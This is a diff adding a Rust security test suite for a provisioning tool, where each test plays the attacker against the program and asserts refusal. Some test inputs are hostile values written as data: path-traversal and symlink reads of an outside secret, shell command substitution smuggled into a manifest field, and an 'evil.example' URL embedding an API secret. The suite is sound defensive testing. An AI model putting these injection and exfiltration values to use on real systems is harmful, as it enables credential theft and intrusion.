@@ -1,0 +1,221 @@
+//! What docs/threat-model.md says is closed and no other test shows: with the program itself, from the attacker's side.
+
+use std::net::TcpListener;
+use std::os::unix::fs::{PermissionsExt as _, symlink};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use serde_json::{Value as Json, json};
+
+use super::lab::{Folder, Proxy, QUICKSTART, Run, Site, Twin, json_reply, lockstep};
+
+fn quickstart_with(from: &str, to: &str) -> String {
+    let text = std::fs::read_to_string(QUICKSTART).expect("the quickstart");
+    assert!(text.contains(from), "{from}");
+    text.replace(from, to)
+}
+
+/// A pull request wants the runner's files: by a path upwards, by an absolute one, by a link that is part of it.
+#[test]
+fn a_manifest_reads_nothing_outside_of_its_folder() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    std::fs::create_dir(folder.path("stack")).expect("folder");
+    let secret = "outside-of-the-folder-7c1e";
+    let outside = folder.write("outside.pem", secret);
+    symlink(&outside, folder.path("stack/link.pem")).expect("link");
+    symlink("..", folder.path("stack/up")).expect("link");
+    for path in ["../outside.pem", outside.as_str(), "link.pem", "up/outside.pem", "./../outside.pem"] {
+        for (from, to) in [
+            ("friendly_name: Acme", format!("friendly_name: \"${{file.{path}}}\"")),
+            (
+                "code: builtin:twilio-verify",
+                format!("code: \"{}{path}\"", if path.contains('/') { "" } else { "./" }),
+            ),
+        ] {
+            let manifest = folder.write("stack/lockstep.yaml", &quickstart_with(from, &to));
+            let run = site.lockstep("plan", &manifest, &["-vvv"]).run().expect(1);
+            assert!(!(run.out + &run.err).contains(secret), "{to}");
+        }
+    }
+    assert_eq!(twin.log().len(), 0, "refused before the first request");
+}
+
+/// Commands come from the command line, whatever a manifest says.
+#[test]
+fn a_manifest_runs_no_command() {
+    let folder = Folder::new();
+    let proof = folder.text_path("proof");
+    for name in [format!("touch {proof}"), format!("$(touch {proof})"), "vault".to_owned()] {
+        let manifest = quickstart_with("friendly_name: Acme", &format!("friendly_name: \"${{cmd.{name}}}\""));
+        let manifest = folder.write("lockstep.yaml", &manifest);
+        let run = lockstep(&["plan", &manifest, "--twin"]).env("PATH", "/usr/bin:/bin").run();
+        assert_eq!(run.code, Some(1), "{name}: {}", run.out);
+    }
+    assert!(!folder.path("proof").exists());
+}
+
+/// The same by the door that is open: `verify_service.friendly_name: ${env.…}` of a credential, and its like.
+#[test]
+fn a_manifest_sends_no_credential_to_where_others_read() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    let endpoint = "endpoint: https://acme-feedback.example/auth0-logs";
+    for (from, to) in [
+        ("friendly_name: Acme", "friendly_name: ${env.AUTH0_CLIENT_SECRET}"),
+        ("friendly_name: Acme", "friendly_name: ${twilio.api_secret}"),
+        (endpoint, "endpoint: https://evil.example/${env.TWILIO_API_SECRET}"),
+        ("${generated.feedback} ", "${auth0.client_secret} "),
+    ] {
+        let manifest = folder.write("lockstep.yaml", &quickstart_with(from, to));
+        let run = site.lockstep("apply", &manifest, &["--yes"]).run().expect(1);
+        assert!(run.err.contains("can be read by others"), "{to}: {}", run.err);
+    }
+    assert_eq!(twin.log().len(), 0, "refused before the first request");
+}
+
+/// A hijacked endpoint sends everybody elsewhere, with every redirect there is.
+#[test]
+fn credentials_follow_no_redirect() {
+    let twin = Twin::start();
+    let elsewhere = TcpListener::bind("127.0.0.1:0").expect("a port");
+    elsewhere.set_nonblocking(true).expect("not waiting");
+    let target = format!("http://{}", elsewhere.local_addr().expect("bound"));
+    for (number, status) in (1..).zip([301u16, 302, 303, 307, 308]) {
+        let location = format!("location: {target}/oauth/token\r\nrefresh: 0; url={target}\r\n");
+        let proxy = Proxy::start(&twin, move |_, _| json_reply(status, &location, &json!({})));
+        let run = Site::new(&twin, number).through(&proxy).run("plan", &[]).expect(1);
+        assert!(run.err.contains(&status.to_string()), "{}", run.err);
+        assert_eq!(proxy.seen().len(), 1, "{status}: asked once");
+    }
+    assert!(elsewhere.accept().is_err(), "somebody came");
+}
+
+/// Without the right certificate not even the token is asked for.
+#[test]
+fn without_a_trusted_certificate_nothing_is_sent() {
+    let folder = Folder::new();
+    let ca = folder.text_path("ca.pem");
+    let (twin, other) = (
+        Twin::with(&["--tls", "--ca-out", &ca]),
+        Twin::with(&["--tls", "--ca-out", &folder.text_path("other.pem")]),
+    );
+    let env = Site::env_of(1);
+    let plan = |ca: &str| {
+        lockstep(&["plan", QUICKSTART, "--ca-file", ca]).envs(&env).env("HTTPS_PROXY", &twin.url()).run()
+    };
+    let refused = plan(&folder.text_path("other.pem")).expect(1);
+    assert!(refused.err.contains("certificate") || refused.err.contains("UnknownIssuer"), "{}", refused.err);
+    assert_eq!(twin.log().len(), 0);
+    plan(&ca).expect(0);
+    drop(other);
+}
+
+/// On a machine with more users than one: ledger, plan, world, audit and log are for the owner only, also where a
+/// file of that name was there and open to all.
+#[test]
+fn what_is_written_is_for_its_owner_only() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    for name in ["plan", "ledger", "world"] {
+        // Replaced as a whole, so what it was open to before means nothing.
+        folder.write(name, "");
+        std::fs::set_permissions(folder.path(name), std::fs::Permissions::from_mode(0o666)).expect("mode");
+    }
+    std::fs::remove_file(folder.path("ledger")).expect("gone");
+    std::fs::remove_file(folder.path("world")).expect("gone");
+    let ledger = format!("file:{}", folder.text_path("ledger"));
+    site.run("plan", &["--out", &folder.text_path("plan")]).expect(0);
+    site.run("apply", &["--yes", "--ledger", &ledger, "--audit", &folder.text_path("audit")]).expect(0);
+    let world = format!("--twin={}", folder.text_path("world"));
+    lockstep(&["apply", QUICKSTART, "--yes", &world]).run().expect(0);
+    for name in ["plan", "ledger", "audit", "world"] {
+        let mode = std::fs::metadata(folder.path(name)).expect(name).permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{name} is {mode:o}");
+    }
+    let names = std::fs::read_dir(folder.path("")).expect("folder").count();
+    assert_eq!(names, 4, "no temporary file is left");
+}
+
+fn prints(site: &Site) -> (String, Vec<String>) {
+    fn walk(json: &Json, found: &mut Vec<String>) {
+        match json {
+            Json::String(text) if text.starts_with("slow:") || text.starts_with("fast:") => {
+                found.push(text.clone())
+            }
+            Json::Array(items) => items.iter().for_each(|item| walk(item, found)),
+            Json::Object(entries) => entries.values().for_each(|item| walk(item, found)),
+            _ => {}
+        }
+    }
+    let ledger = site.actions().into_iter().find(|action| action["name"] == "Lockstep ledger (acme-login)");
+    let code = ledger.expect("a ledger")["code"].as_str().expect("source").to_owned();
+    let encoded = code.split('\'').find_map(|part| part.strip_prefix("v1.")).expect("a payload");
+    let bytes = STANDARD.decode(encoded.split_once('.').expect("a checksum").1).expect("base64");
+    let json: Json = serde_json::from_slice(&bytes).expect("JSON");
+    let mut found = Vec::new();
+    walk(&json, &mut found);
+    (json["salt"].as_str().expect("a salt").to_owned(), found)
+}
+
+/// Whoever reads Actions reads the record: what is in it of a secret that a person chose costs a tenth of a second a
+/// guess, and a guess for one tenant is none for another.
+#[test]
+fn a_record_is_no_help_in_guessing() {
+    let twin = Twin::start();
+    let mut sites = [Site::new(&twin, 1), Site::new(&twin, 2)];
+    let mut seen = Vec::new();
+    for site in &mut sites {
+        site.env.insert("TWILIO_SENDER_SECRET".into(), "correct horse battery".into());
+        site.run("apply", &["--yes"]).expect(0);
+        seen.push(prints(site));
+    }
+    let [(salt, one), (other_salt, two)] = &seen[..] else { panic!("two") };
+    assert_ne!(salt, other_salt);
+    assert!(salt.len() == 32, "{salt}");
+    for list in [one, two] {
+        let slow: Vec<&String> = list.iter().filter(|print| print.starts_with("slow:")).collect();
+        assert!(!slow.is_empty(), "{list:?}");
+        let rounds = |print: &str| print.split(':').nth(1).and_then(|n| n.parse::<u32>().ok()).unwrap_or(0);
+        assert!(slow.iter().all(|print| rounds(print) >= 200_000), "{slow:?}");
+    }
+    assert!(one.iter().all(|print| !two.contains(print)), "equal secrets have unequal prints");
+}
+
+/// The credentials are of another account than the manifest's: before any other write, that is noticed.
+#[test]
+fn credentials_of_another_account_change_nothing() {
+    let twin = Twin::start();
+    let mut site = Site::new(&twin, 1);
+    site.env.insert("TWILIO_ACCOUNT_SID".into(), "AC0123456789abcdef0123456789abcdef".into());
+    let mark = twin.mark();
+    let run = site.run("apply", &["--yes", "--lease-ttl", "1s"]);
+    assert_eq!(run.code, Some(1), "{}", run.err);
+    let writes: Vec<String> = twin
+        .writes_since(mark)
+        .into_iter()
+        .filter(|line| !line.contains("serverless.twilio.com /v1/Services"))
+        .collect();
+    assert_eq!(writes, Vec::<String>::new());
+}
+
+/// A server that never stops talking, and one that says a word a minute, end with the request's own time.
+#[test]
+fn a_reply_without_an_end_ends_the_request() {
+    let twin = Twin::start();
+    let sent = Arc::new(AtomicUsize::new(0));
+    let count = sent.clone();
+    let proxy = Proxy::start(&twin, move |_, _| {
+        count.fetch_add(1, Ordering::SeqCst);
+        let body = "x".repeat(20 * 1024 * 1024);
+        format!(
+            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 99999999999\r\n\r\n{body}"
+        )
+        .into_bytes()
+    });
+    let run: Run = Site::new(&twin, 1).through(&proxy).run("plan", &[]).expect(1);
+    assert!(run.err.contains("larger than"), "{}", run.err);
+    assert!(sent.load(Ordering::SeqCst) < 20);
+}
